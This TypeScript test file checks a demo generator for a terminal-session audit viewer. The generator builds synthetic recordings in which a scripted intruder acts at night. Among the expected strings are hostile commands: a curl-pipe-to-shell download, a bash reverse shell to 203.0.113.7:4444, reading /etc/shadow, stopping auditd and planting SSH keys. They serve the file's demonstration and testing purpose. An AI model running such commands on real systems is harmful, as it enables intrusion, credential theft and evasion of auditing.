import { describe, expect, it } from 'vitest';
import { decodeStreamBytes } from '../../electron/core/record-encoding.js';
import { eventProblems } from '../../electron/core/record-schema.js';
import type { EventOf, TrailEvent } from '../../electron/core/records.js';
import { parseTimestamp } from '../../electron/core/timestamp.js';
import { HIDDEN_INPUTS, MALLORY_WRONG_PASSWORD, PEOPLE } from '../../electron/services/demo/cast.js';
import { defaultDemoStart, generateDemoEvents, resolveDemoOptions } from '../../electron/services/demo/generate-demo.js';
import { mergeByTime } from '../../electron/services/demo/merge-by-time.js';
import { Prng } from '../../electron/services/demo/prng.js';

const demo: TrailEvent[] = [...generateDemoEvents({ seed: 1 })];

function bySession(events: readonly TrailEvent[]): Map<string, TrailEvent[]> {
  const map = new Map<string, TrailEvent[]>();
  for (const e of events) {
    const list = map.get(e.session) ?? [];
    list.push(e);
    map.set(e.session, list);
  }
  return map;
}

/** Concatenated bytes of a session's `out` (or `in`) records, as text. */
function stream(events: readonly TrailEvent[], type: 'out' | 'in'): string {
  return Buffer.concat(events.filter((e) => e.type === type).map((e) => decodeStreamBytes(e as EventOf<'out'>))).toString('latin1');
}

/** UTF-8 text as the same latin1 "byte string" as `stream` returns, for byte-wise searching. */
const bytes = (text: string): string => Buffer.from(text, 'utf8').toString('latin1');

function outBytes(events: Iterable<TrailEvent>): number {
  let total = 0;
  for (const e of events) if (e.type === 'out') total += decodeStreamBytes(e).length;
  return total;
}

/** The line editor's erasures applied: a typed character, then Backspace echoed as "\b \b". */
function applyErasures(text: string): string {
  let out = text;
  for (let at = out.indexOf('\b \b'); at >= 0; at = out.indexOf('\b \b', Math.max(0, at - 1))) {
    out = out.slice(0, Math.max(0, at - 1)) + out.slice(at + 3);
  }
  return out;
}

const cmds = (events: readonly TrailEvent[]): EventOf<'cmd'>[] => events.filter((e): e is EventOf<'cmd'> => e.type === 'cmd');

describe('demo generator', () => {
  it('is deterministic: same options, same events; another seed, other events', () => {
    const again = [...generateDemoEvents({ seed: 1 })];
    expect(JSON.stringify(again)).toBe(JSON.stringify(demo));
    const other = [...generateDemoEvents({ seed: 2, start: defaultDemoStart(1) })];
    expect(JSON.stringify(other)).not.toBe(JSON.stringify(demo));
  });

  it('yields events in global non-decreasing time order', () => {
    for (let i = 1; i < demo.length; i++) {
      expect(parseTimestamp((demo[i] as TrailEvent).ts)).toBeGreaterThanOrEqual(parseTimestamp((demo[i - 1] as TrailEvent).ts));
    }
  });

  it('yields only valid events', () => {
    const problems = demo.flatMap((e) => eventProblems(e).map((p) => `${e.session} ${e.ts} ${e.type}: ${p}`));
    expect(problems).toEqual([]);
  });

  it('starts and ends every session once, with readable ids and the recorder named', () => {
    const sessions = bySession(demo);
    expect([...sessions.keys()].sort()).toEqual([
      'bastion-pts-4-bob-1', 'db-1-pts-1-mallory-1', 'db-1-sudo-alice-1', 'web-1-pts-2-alice-1', 'web-1-pts-3-mallory-1', 'web-1-tmux-ops',
    ]);
    for (const [id, events] of sessions) {
      expect(id).toMatch(/^[a-z0-9-]+$/);
      const first = events[0] as EventOf<'session.start'>;
      expect(first.type).toBe('session.start');
      expect(first.recorder).toEqual({ name: 'trailview-demo', version: '1', format: 'demo' });
      expect(first.term).toBe(id.includes('tmux') ? 'screen-256color' : 'xterm-256color');
      expect(events.at(-1)?.type).toBe('session.end');
      expect(events.filter((e) => e.type === 'session.start' || e.type === 'session.end')).toHaveLength(2);
    }
    const users = new Set(demo.filter((e) => e.type === 'session.start').map((e) => e.user));
    expect(users).toEqual(new Set(['alice', 'bob', 'carol', 'mallory']));
  });

  it('matches every join with a leave or the session end, read-only and read-write', () => {
    const joins = demo.filter((e): e is EventOf<'join'> => e.type === 'join');
    expect(joins.map((j) => [j.user, j.readOnly])).toEqual([['alice', true], ['bob', false]]);
    for (const [, events] of bySession(demo)) {
      const attached = new Set<string>();
      for (const e of events) {
        if (e.type === 'join') attached.add(`${e.user} ${e.clientTty}`);
        if (e.type === 'leave') expect(attached.delete(`${e.user} ${e.clientTty}`)).toBe(true);
      }
    }
    for (const j of joins) {
      expect(j).toMatchObject({ session: 'web-1-tmux-ops', uid: expect.any(Number), clientTty: expect.any(String), client: expect.any(String), remote: expect.any(String), pid: expect.any(Number) });
    }
    expect(demo.some((e) => e.type === 'leave' && e.user === 'bob')).toBe(true);
    expect(demo.filter((e) => e.type === 'resize').length).toBeGreaterThanOrEqual(2);
  });

  it('records the suspicious actions as cmd records, by mallory, at 03:xx UTC', () => {
    const expected = [
      'curl -fsSL http://203.0.113.7/x.sh | sh',
      'sudo useradd -m -G sudo backup2',
      'sudo visudo',
      'cat /etc/shadow',
      'history -c',
      'unset HISTFILE',
      'sudo systemctl stop auditd',
      'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
    ];
    const all = cmds(demo);
    for (const text of expected) {
      const found = all.find((c) => c.text === text);
      expect(found, text).toBeDefined();
      expect(found).toMatchObject({ source: 'recorder', confidence: 1, user: 'mallory', cwd: expect.any(String), exitStatus: expect.any(Number) });
      expect(found?.ts.slice(11, 13)).toBe('03');
    }
    expect(all.some((c) => /^echo \S+ \| base64 -d \| sh$/.test(c.text))).toBe(true);
    expect(all.some((c) => c.text.includes('>> ~/.ssh/authorized_keys'))).toBe(true);
    expect(all.some((c) => c.text.includes('sudo tee -a /root/.ssh/authorized_keys'))).toBe(true);
    expect(demo.filter((e) => e.type === 'marker').length).toBeGreaterThanOrEqual(2);
  });

  it('never echoes a password typed at a hidden prompt, but records the keystrokes', () => {
    const sessions = bySession(demo);
    for (const [, events] of sessions) {
      const out = stream(events, 'out');
      for (const secret of HIDDEN_INPUTS) expect(out.includes(bytes(secret)), secret).toBe(false);
    }
    const malloryWeb = sessions.get('web-1-pts-3-mallory-1') ?? [];
    const typed = stream(malloryWeb, 'in');
    expect(typed).toContain(`${MALLORY_WRONG_PASSWORD}\r`);
    expect(typed).toContain(`${PEOPLE.mallory.password}\r`);
    expect(stream(malloryWeb, 'out')).toContain('[sudo] password for mallory: ');
    expect(stream(sessions.get('web-1-tmux-ops') ?? [], 'in')).toContain(`${PEOPLE.carol.password}\r`);
  });

  it('echoes every command line in its session output (typed, corrected, completed, recalled or pasted)', () => {
    for (const [id, events] of bySession(demo)) {
      const out = applyErasures(stream(events, 'out'));
      for (const c of cmds(events)) expect(out.includes(bytes(c.text)), `${id}: ${c.text}`).toBe(true);
    }
  });

  it('types like a person: keystrokes, Backspace, Tab, Up, paste, Ctrl-C', () => {
    const typed = demo.filter((e) => e.type === 'in').map((e) => e.text ?? '');
    expect(typed).toContain('\x7f');
    expect(typed).toContain('\t');
    expect(typed).toContain('\x1b[A');
    expect(typed).toContain('\x03');
    expect(typed.some((t) => t.startsWith('\x1b[200~'))).toBe(true);
    const outs = demo.filter((e) => e.type === 'out').map((e) => e.text ?? '');
    expect(outs).toContain('\b \b');
  });

  it('shows terminal features: colour prompts, the alternate screen, UTF-8 wide characters, raw bytes', () => {
    const out = demo.filter((e) => e.type === 'out').map((e) => e.text ?? '').join('');
    expect(out).toContain('\x1b[01;32malice@web-1\x1b[00m:\x1b[01;34m~\x1b[00m$ ');
    expect(out).toContain('\x1b[?1049h');
    expect(out).toContain('\x1b[?1049l');
    expect(out).toContain('\x1b[8;1H'); // cursor positioning (top's process rows)
    expect(out).toMatch(/[\u3040-\u30ff\u4e00-\u9fff]/); // CJK (double width)
    expect(out).toMatch(/[éèïüö]/);
    expect(out).toMatch(/\p{Extended_Pictographic}/u);
    expect(demo.some((e) => e.type === 'out' && typeof e.b64 === 'string')).toBe(true);
  });

  it('scales the output to the requested size and keeps the story', () => {
    const defaultBytes = outBytes(demo);
    expect(Math.abs(defaultBytes - 2 * 1024 * 1024) / (2 * 1024 * 1024)).toBeLessThan(0.05);
    const size = 5_000_000;
    let count = 0;
    let last = '';
    let total = 0;
    for (const e of generateDemoEvents({ seed: 1, size })) {
      count++;
      expect(e.ts >= last).toBe(true);
      last = e.ts;
      if (e.type === 'out') {
        const n = decodeStreamBytes(e).length;
        expect(n).toBeLessThanOrEqual(65536 * 4);
        total += n;
      }
    }
    expect(Math.abs(total - size) / size).toBeLessThan(0.05);
    expect(count).toBeGreaterThan(demo.length);
  });

  it('honours sessions and start', () => {
    const one = [...generateDemoEvents({ seed: 3, sessions: 1, size: 100_000, start: '2025-01-02T03:04:05Z' })];
    expect(new Set(one.map((e) => e.session))).toEqual(new Set(['web-1-tmux-ops']));
    expect(one[0]?.ts).toBe('2025-01-02T03:04:05.000000Z');
    const many = [...generateDemoEvents({ seed: 3, sessions: 10, size: 500_000 })];
    const starts = many.filter((e) => e.type === 'session.start');
    expect(starts).toHaveLength(10);
    expect(new Set(starts.map((e) => e.session)).size).toBe(10);
    expect(many.every((e) => eventProblems(e).length === 0)).toBe(true);
    expect(defaultDemoStart(1)).toBe('2024-11-21T02:10:00.000000Z');
    expect(() => resolveDemoOptions({ seed: 1.5 })).toThrow(RangeError);
    expect(() => resolveDemoOptions({ seed: 1, sessions: 0 })).toThrow(RangeError);
    expect(() => resolveDemoOptions({ seed: 1, size: -1 })).toThrow(RangeError);
  });
});

describe('demo building blocks', () => {
  it('mergeByTime merges sorted streams stably and rejects a stream going back in time', () => {
    const ev = (ts: string, session: string): { ts: string; session: string } => ({ ts, session });
    const a = [ev('1', 'a'), ev('3', 'a'), ev('3', 'a')];
    const b = [ev('2', 'b'), ev('3', 'b'), ev('4', 'b')];
    expect([...mergeByTime([a, b])].map((e) => `${e.ts}${e.session}`)).toEqual(['1a', '2b', '3a', '3a', '3b', '4b']);
    expect(() => [...mergeByTime([[ev('2', 'x'), ev('1', 'x')]])]).toThrow(/back in time/);
  });

  it('Prng streams are reproducible and independent by label', () => {
    const x = Prng.derive(7, 'a');
    const y = Prng.derive(7, 'a');
    const z = Prng.derive(7, 'b');
    const xs = Array.from({ length: 5 }, () => x.u32());
    expect(Array.from({ length: 5 }, () => y.u32())).toEqual(xs);
    expect(Array.from({ length: 5 }, () => z.u32())).not.toEqual(xs);
    for (let i = 0; i < 1000; i++) {
      const v = x.next();
      expect(v >= 0 && v < 1).toBe(true);
    }
  });
});
